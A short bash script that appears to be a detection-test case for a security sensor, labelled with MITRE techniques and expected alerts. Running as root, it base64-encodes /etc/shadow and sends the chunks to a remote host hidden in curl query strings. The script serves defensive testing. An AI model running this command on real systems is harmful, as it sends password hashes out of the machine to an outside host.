#!/usr/bin/env bash
# tactic: exfiltration
# technique: T1030 Data Transfer Size Limits; T1132.001 Data Encoding: Standard Encoding
# behaviour: leaks a file in small base64 chunks hidden in the query strings of many GET requests
# as: root
# needs: remote
# expect: credential_access, new_destination
set -u
base64 -w 60 /etc/shadow | head -8 | while read -r chunk; do
  curl -s -m 3 -G --data-urlencode "q=$chunk" http://$SNTL_REMOTE/search > /dev/null
done
